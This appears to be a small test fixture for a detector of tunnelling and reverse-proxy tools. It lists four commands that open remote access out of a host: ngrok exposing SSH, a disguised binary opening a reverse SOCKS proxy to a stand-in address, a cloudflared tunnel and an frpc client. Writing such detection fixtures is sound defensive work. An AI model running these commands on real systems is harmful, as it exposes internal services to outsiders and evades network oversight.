# SPDX-License-Identifier: Apache-2.0
# hits: 4
# fake: /usr/bin/ngrok /tmp/update /usr/bin/cloudflared /opt/frpc_linux
ngrok tcp 22
/tmp/update client https://192.0.2.7:443 R:1080:socks
cloudflared tunnel --url http://localhost:8080
/opt/frpc_linux -c frpc.toml
